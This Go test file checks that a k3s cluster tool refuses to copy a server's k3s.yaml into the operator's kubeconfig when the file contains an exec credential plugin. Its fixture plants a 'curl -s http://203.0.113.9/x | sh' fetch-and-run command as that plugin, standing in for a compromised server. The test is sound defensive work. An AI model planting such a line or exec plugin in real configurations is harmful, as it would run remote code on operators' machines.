package steps

import (
	"bytes"
	"context"
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/k3sup-pi/k3sup-pi/internal/inventory"
	"github.com/k3sup-pi/k3sup-pi/internal/kubeconfig/kctest"
	"github.com/k3sup-pi/k3sup-pi/internal/remote"
	"k8s.io/client-go/tools/clientcmd"
	"k8s.io/client-go/tools/clientcmd/api"
)

// k3sYAMLHost is a server whose /etc/rancher/k3s/k3s.yaml is yaml.
type k3sYAMLHost struct {
	name string
	yaml []byte
}

func (h *k3sYAMLHost) Name() string { return h.name }

func (h *k3sYAMLHost) Run(_ context.Context, cmd remote.Cmd) (remote.Result, error) {
	if cmd.Script == "cat "+kubeconfigK3s {
		return remote.Result{Stdout: h.yaml}, nil
	}
	return remote.Result{ExitCode: 127}, errors.New("unexpected command " + cmd.Script)
}

func (h *k3sYAMLHost) WriteFile(context.Context, string, []byte, fs.FileMode) (bool, error) {
	return false, errors.New("no writes")
}

func (h *k3sYAMLHost) Upload(context.Context, string, string, fs.FileMode) (bool, error) {
	return false, errors.New("no uploads")
}

func (h *k3sYAMLHost) Reboot(context.Context, time.Duration) error { return errors.New("no reboots") }
func (h *k3sYAMLHost) Close() error                                { return nil }

// plantedK3sYAML is the k3s.yaml of a compromised server: an exec plugin
// that would run a program on the operator's machine.
func plantedK3sYAML(t *testing.T) []byte {
	c := kctest.NewPKI(t).Config()
	c.AuthInfos["default"].Exec = &api.ExecConfig{APIVersion: "client.authentication.k8s.io/v1", Command: "sh",
		Args: []string{"-c", "curl -s http://203.0.113.9/x | sh"}}
	return kctest.YAML(t, c)
}

const plantedMsg = `k3s.yaml on s1 has an exec credential plugin (users["default"].user.exec); k3s never writes one — refusing to copy it to your kubeconfig`

// TestFetchKubeconfigRefusesPlantedExec: the `kubeconfig` command's fetch
// refuses a k3s.yaml with an exec plugin, and does not fall back to the next
// server; a clean k3s.yaml comes out with the inventory's names.
func TestFetchKubeconfigRefusesPlantedExec(t *testing.T) {
	p := kctest.NewPKI(t)
	tests := []struct {
		name    string
		first   []byte
		wantErr string
	}{
		{"planted exec", plantedK3sYAML(t), plantedMsg},
		{"as k3s writes it", kctest.YAML(t, p.Config()), ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			inv := &inventory.Inventory{Hosts: []inventory.Host{
				{Address: "10.0.0.1", Hostname: "s1", Role: inventory.RoleServer},
				{Address: "10.0.0.2", Hostname: "s2", Role: inventory.RoleServer},
			}}
			var dialed []string
			dial := func(_ context.Context, h inventory.Host) (Conn, error) {
				dialed = append(dialed, h.Name())
				y := tt.first
				if h.Name() == "s2" {
					y = kctest.YAML(t, p.Config())
				}
				return &k3sYAMLHost{name: h.Name(), yaml: y}, nil
			}
			out, err := FetchKubeconfig(context.Background(), inv, dial, "pi-lab")
			if tt.wantErr != "" {
				if err == nil || err.Error() != tt.wantErr {
					t.Fatalf("error = %v\nwant      %s", err, tt.wantErr)
				}
				if out != nil || len(dialed) != 1 {
					t.Errorf("output %q, dialed %v: want nothing and only s1", out, dialed)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			c, err := clientcmd.Load(out)
			if err != nil || c.CurrentContext != "pi-lab" || c.Clusters["pi-lab"].Server != "https://10.0.0.1:6443" {
				t.Errorf("kubeconfig %s (%v)", out, err)
			}
		})
	}
}

// TestUpWriteKubeconfigRefusesPlantedExec: `up`'s kubeconfig write refuses
// the planted k3s.yaml and leaves the operator's file as it was.
func TestUpWriteKubeconfigRefusesPlantedExec(t *testing.T) {
	path := filepath.Join(t.TempDir(), "kubeconfig")
	before := []byte("# the operator's own\n")
	if err := os.WriteFile(path, before, 0o600); err != nil {
		t.Fatal(err)
	}
	first := &Node{Host: inventory.Host{Address: "10.0.0.1", Hostname: "s1", Role: inventory.RoleServer}}
	r := &run{
		opt:     Options{WriteKubeconfig: true},
		inv:     &inventory.Inventory{Cluster: inventory.Cluster{Name: "pi-lab", Kubeconfig: path}},
		servers: []*Node{first},
		k3sYAML: plantedK3sYAML(t),
		result:  &Result{},
	}
	err := r.writeKubeconfig(context.Background())
	if err == nil || err.Error() != plantedMsg {
		t.Fatalf("error = %v\nwant      %s", err, plantedMsg)
	}
	after, _ := os.ReadFile(path)
	if !bytes.Equal(after, before) || r.result.Kubeconfig != "" {
		t.Errorf("kubeconfig written despite the refusal:\n%s", after)
	}
	if m, _ := filepath.Glob(path + ".bak-*"); len(m) != 0 {
		t.Errorf("backups made: %v", m)
	}
	if strings.Contains(string(after), "203.0.113.9") {
		t.Error("planted command reached the kubeconfig")
	}
}
